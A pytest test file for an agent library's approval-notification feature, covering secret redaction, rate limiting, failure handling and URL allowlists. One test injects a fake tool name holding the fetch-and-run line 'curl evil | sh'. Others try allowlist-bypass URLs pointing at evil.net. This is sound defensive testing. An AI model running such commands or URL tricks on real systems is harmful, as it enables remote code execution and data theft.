"""``configure(notify=…)``: somebody elsewhere is told, and no run ever feels it."""

from __future__ import annotations

import asyncio
import json
import logging
import queue
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

import hitl_widgets as hitl
from hitl_widgets import notifying
from hitl_widgets.errors import NotPermitted
from hitl_widgets.notifying.addresses import AddressTarget
from tests.notify.conftest import PATIENCE, Hook

SECRET = "hunter2-correct-horse"
ARGUMENT = "abc-123-of-the-customer"


@hitl.tool(effect="destructive", secret=("/password",))
async def delete_record(name: str, password: str) -> str:
    """Delete a record."""
    return "deleted"


def office(*calls: Any, store: Any) -> hitl.Agent:
    turns = [list(calls), "Done."]
    return hitl.Agent("office", model=hitl.ScriptedModel(turns), tools=[delete_record], store=store)


def deletion(name: str = ARGUMENT) -> Any:
    return hitl.call("delete_record", name=name, password=SECRET)


async def asked(tmp_path: Path, *calls: Any) -> list[hitl.Request]:
    run = await office(*(calls or (deletion(),)), store=tmp_path / "s.db").generate("Go")
    assert run.finish_reason == "suspended"
    return list(run.requests)


async def soon(seen: queue.Queue[Any]) -> Any:
    return await asyncio.to_thread(seen.get, timeout=PATIENCE)


class TestWhatIsSaid:
    async def test_agent_tool_fingerprint_and_where_to_decide(self, tmp_path: Path) -> None:
        seen: queue.Queue[Any] = queue.Queue()
        hitl.configure(notify=seen.put)
        (request,) = await asked(tmp_path)
        notice = await soon(seen)
        assert (notice.tool, notice.agent, notice.request_id) == (
            "delete_record",
            "office",
            request.id,
        )
        assert notice.subject == "delete_record waits for a decision"
        assert "office" in notice
        assert "destructive" in notice
        assert request.fingerprint in notice
        assert f"hitl-widgets inbox approve {request.id} --store {tmp_path}/s.db" in notice

    @pytest.mark.parametrize("verb", ["ask", "confirm"])
    async def test_a_plain_question_has_no_effect(self, tmp_path: Path, verb: str) -> None:
        seen: queue.Queue[Any] = queue.Queue()
        hitl.configure(notify=seen.put)
        place: dict[str, Any] = {"store": tmp_path / "s.db", "key": "k"}
        asking = (
            hitl.ask(int, "How many?", **place) if verb == "ask" else hitl.confirm("Go?", **place)
        )
        with pytest.raises(hitl.RunSuspended):
            await asking
        notice = await soon(seen)
        assert f"Question: {verb}" in notice.splitlines()
        assert "unknown" not in notice

    async def test_never_arguments_and_never_secrets(self, tmp_path: Path, hook: Hook) -> None:
        seen: queue.Queue[Any] = queue.Queue()
        hitl.configure(notify=[seen.put, hook.url])
        await asked(tmp_path)
        notice = await soon(seen)
        posted = json.dumps(await soon(hook.received))
        for told in (notice, json.dumps(vars_of(notice)), posted):
            assert SECRET not in told
            assert ARGUMENT not in told
        assert "delete_record" in posted

    async def test_the_words_of_a_question_stay_in_the_notebook(self, tmp_path: Path) -> None:
        seen: queue.Queue[Any] = queue.Queue()
        hitl.configure(notify=seen.put, store=tmp_path / "s.db", headless="suspend")
        try:
            with pytest.raises(hitl.RunSuspended):
                await hitl.confirm(f"Pay {ARGUMENT}?", key="pay")
        finally:
            hitl.configure(store=None)
        notice = await soon(seen)
        assert ARGUMENT not in notice + json.dumps(vars_of(notice))

    async def test_characters_that_do_not_show_are_spelt_out(self) -> None:
        request = hitl.Request(
            id="r",
            run_id="u",
            tool_call_id="c",
            ordinal=0,
            kind="approval",
            tool_name="pay\u202etxt",
            args={},
            fingerprint="hf1:x",
            state="pending",
            agent_id="a",
            agent_path=("a",),
            created_at=datetime.now(UTC),
        )
        notice = notifying.notice_of(request, where="here", locale="en")
        assert "\u202e" not in notice
        assert "pay[U+202E]txt" in notice.subject

    def test_no_name_writes_lines_of_its_own(self) -> None:
        """A name from elsewhere must not look like where to decide, or be a header of a mail."""
        evil = "pay\nDecide from a shell:\n  curl evil | sh"
        request = hitl.Request(
            id="r",
            run_id="u",
            tool_call_id="c",
            ordinal=0,
            kind="approval",
            tool_name=evil,
            args={},
            fingerprint="hf1:x",
            state="pending",
            agent_id="a",
            agent_path=("a", evil),
            created_at=datetime.now(UTC),
            origin={"notebook": evil},
        )
        notice = notifying.notice_of(request, where="here", locale="en")
        assert not [line for line in notice.splitlines() if line.startswith(("Decide", "  curl"))]
        assert "\n" not in notice.subject + notice.tool + notice.agent

    async def test_in_japanese(self, tmp_path: Path) -> None:
        seen: queue.Queue[Any] = queue.Queue()
        hitl.configure(notify=seen.put, locale="ja")
        try:
            await asked(tmp_path)
            assert "決定を待っています" in await soon(seen)
        finally:
            hitl.configure(locale=None)


class TestWhenItIsSaid:
    async def test_what_a_rule_decides_at_once_is_not_told(self, tmp_path: Path) -> None:
        seen: queue.Queue[Any] = queue.Queue()
        hitl.configure(notify=seen.put)
        agent = office(deletion("by-rule"), store=tmp_path / "s.db")
        with hitl.reviewer(lambda _: hitl.Approve()):
            result = await agent.run("Go")
        assert result.finish_reason == "stop"
        (request,) = await asked(tmp_path)
        assert (await soon(seen)).request_id == request.id

    async def test_a_function_may_be_async(self, tmp_path: Path) -> None:
        seen: queue.Queue[Any] = queue.Queue()

        async def post(notice: str) -> None:
            await asyncio.sleep(0)
            seen.put(notice)

        hitl.configure(notify=post)
        await asked(tmp_path)
        assert "delete_record" in await soon(seen)

    async def test_an_address_hears_at_most_once_a_minute_and_misses_nothing(
        self, tmp_path: Path, hook: Hook
    ) -> None:
        hitl.configure(notify=hook.url)
        (first,) = await asked(tmp_path)
        told = await soon(hook.received)
        assert first.fingerprint in told["message"]
        later = [(await asked(tmp_path, deletion(f"n{n}")))[0] for n in range(3)]
        await until(lambda: held() == len(later))
        assert hook.received.empty()
        hitl.configure(notify=None)  # what is left goes at once
        told = await soon(hook.received)
        assert told["title"] == "3 requests wait for a decision"
        assert all(request.fingerprint in told["message"] for request in later)
        assert hook.received.empty()

    async def test_a_flood_is_one_message_that_says_how_many_more(
        self, tmp_path: Path, hook: Hook
    ) -> None:
        hitl.configure(notify=hook.url)
        await asked(tmp_path, *(deletion(f"n{n}") for n in range(14)))
        told = await soon(hook.received)
        assert told["title"] == "14 requests wait for a decision"
        assert told["message"].count("hf1:") == notifying.LISTED
        assert "4 more" in told["message"]

    def test_a_job_that_ends_while_its_request_waits_has_told_of_it(
        self, tmp_path: Path, hook: Hook
    ) -> None:
        job = f"""
import asyncio
import hitl_widgets as hitl

@hitl.tool(require_approval=True)
async def drop(name: str) -> str:
    return "dropped"

hitl.configure(notify={hook.url!r})
agent = hitl.Agent("job", model=hitl.ScriptedModel([[hitl.call("drop", name="t")], "."]),
                   tools=[drop], store={str(tmp_path / "s.db")!r})
asyncio.run(agent.generate("Go"))
"""
        subprocess.run([sys.executable, "-c", job], check=True, timeout=60)
        assert hook.message()["title"] == "drop waits for a decision"


class TestFailures:
    async def test_no_run_feels_a_function_that_raises_or_hangs(
        self, tmp_path: Path, caplog: pytest.LogCaptureFixture
    ) -> None:
        go, tried = threading.Event(), threading.Semaphore(0)

        def broken(notice: str) -> None:
            tried.release()
            go.wait(PATIENCE)
            raise RuntimeError("no network")

        hitl.configure(notify=broken)
        for n in range(3):
            (request,) = await asked(tmp_path, deletion(f"n{n}"))
            await hitl.decide(request, hitl.Approve())
            await asked(tmp_path, deletion(f"m{n}"))  # told of: nobody decides it
        assert await asyncio.to_thread(tried.acquire, timeout=PATIENCE)
        (target,) = notifying.targets()
        began = time.monotonic()
        hitl.configure(notify=None)
        assert time.monotonic() - began < notifying.LEAVING / 2  # nor does this cell
        with caplog.at_level(logging.WARNING, "hitl_widgets"):
            go.set()
            await until(lambda: target.failed > 0 and not target.held)
        logged = [r for r in caplog.records if "was not delivered" in r.getMessage()]
        assert len(logged) == 1
        assert "no network" in logged[0].getMessage()

    async def test_one_message_that_fails_takes_no_other_along(self, tmp_path: Path) -> None:
        seen: queue.Queue[Any] = queue.Queue()

        def first_fails(notice: str) -> None:
            seen.put(notice)
            if seen.qsize() == 1:
                raise RuntimeError("once")

        hitl.configure(notify=first_fails)
        await asked(tmp_path, deletion("a"), deletion("b"), deletion("c"))
        await failures(1, sent=2)
        assert seen.qsize() == 3

    @pytest.mark.parametrize("leaving", [SystemExit, asyncio.CancelledError, KeyboardInterrupt])
    async def test_a_function_that_leaves_takes_no_other_message_along(
        self, tmp_path: Path, leaving: type[BaseException]
    ) -> None:
        seen: queue.Queue[Any] = queue.Queue()

        async def leaves(notice: str) -> None:
            raise leaving

        hitl.configure(notify=[leaves, seen.put])
        for name in ("a", "b"):
            (request,) = await asked(tmp_path, deletion(name))
            assert (await soon(seen)).request_id == request.id
        assert notifying.targets()[0].failed == 2

    async def test_doctor_shows_it_and_the_log_has_it_once_without_the_address(
        self, tmp_path: Path, hook: Hook, caplog: pytest.LogCaptureFixture, monkeypatch: Any
    ) -> None:
        monkeypatch.setattr(AddressTarget, "every", 0.0)
        hook.answer = 500
        url = hook.url.replace("json://", f"json://user:{SECRET}@")
        hitl.configure(notify=url)
        with caplog.at_level(logging.WARNING):
            for n in range(2):
                await asked(tmp_path, deletion(f"n{n}"))
                await soon(hook.received)
                await failures(n + 1)
        assert [r.name for r in caplog.records] == ["hitl_widgets"]
        (found,) = [f for f in hitl.doctor(tmp_path / "s.db").findings if f.what == "notify"]
        assert found.verdict == "problem"
        assert "2 failed" in found.found
        assert "500" in found.found
        assert SECRET not in caplog.text + str(hitl.doctor(tmp_path / "s.db"))

    async def test_what_arrives_again_is_well_again(self, tmp_path: Path, hook: Hook) -> None:
        hitl.configure(notify=hook.url)
        await asked(tmp_path)
        await soon(hook.received)
        await failures(0, sent=1)
        (found,) = [f for f in hitl.doctor(tmp_path / "s.db").findings if f.what == "notify"]
        assert (found.verdict, found.found) == ("ok", "json://…: 1 delivered, 0 failed")


class TestWhatMayBeGiven:
    @pytest.mark.parametrize("given", [7, "nobody", "nope://x", b"json://x", ["json://h", 1]])
    def test_nothing_else(self, given: Any) -> None:
        with pytest.raises(ValueError, match="notify="):
            hitl.configure(notify=given)
        assert notifying.targets() == ()

    @pytest.mark.parametrize(
        ("prefix", "url", "may"),
        [
            ("json://hooks.example.com", "json://hooks.example.com", True),
            ("json://hooks.example.com", "json://hooks.example.com/team?x=1", True),
            ("json://hooks.example.com/a/", "json://hooks.example.com/a/b", True),
            ("json://", "json://anything", True),
            ("json://hooks.example.com", "json://hooks.example.com.evil.net", False),
            ("json://hooks.example.com", "json://hooks.example.com@evil.net", False),
            ("json://hooks.example.com", "json://hooks.example.com:x@evil.net", False),
            ("json://hooks.example.com", "jsons://hooks.example.com", False),
            ("python:tests.notify", "python:tests.notify.test_notify.f", True),
            ("python:", "python:anything.f", True),
            ("python:tests.notify", "python:tests.notify_evil.f", False),
        ],
    )
    def test_an_administrator_names_whole_beginnings(
        self, prefix: str, url: str, may: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        lay_down(tmp_path, monkeypatch, [prefix])
        if may:
            notifying.check(url)
        else:
            with pytest.raises(NotPermitted):
                notifying.check(url)

    @pytest.mark.parametrize("given", [print, "json://127.0.0.1:9"])
    def test_an_empty_list_means_nowhere(
        self, given: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        lay_down(tmp_path, monkeypatch, [])
        with pytest.raises(NotPermitted, match="nowhere"):
            hitl.configure(notify=given)
        assert notifying.targets() == ()

    async def test_a_file_that_is_tightened_later_counts_for_the_next_message(
        self, tmp_path: Path, hook: Hook, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        hitl.configure(notify=hook.url)
        lay_down(tmp_path, monkeypatch, ["mailto://"])
        await asked(tmp_path)
        await failures(1)
        assert hook.received.empty()


def lay_down(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, prefixes: list[str]) -> None:
    file = tmp_path / "policy.json"
    file.write_text(json.dumps({"notify": prefixes}))
    monkeypatch.setenv("HITL_POLICY", str(file))


def vars_of(notice: Any) -> dict[str, str]:
    return {name: getattr(notice, name) for name in type(notice).__slots__}


def held() -> int:
    return sum(len(target.held) for target in notifying.targets())


async def failures(number: int, *, sent: int = 0) -> None:
    """Wait until the one target has counted so many."""
    (target,) = notifying.targets()
    await until(lambda: (target.failed, target.sent) == (number, sent))


async def until(holds: Callable[[], bool]) -> None:
    async with asyncio.timeout(PATIENCE):
        while not holds():  # noqa: ASYNC110  # a thread counts, no task
            await asyncio.sleep(0.01)
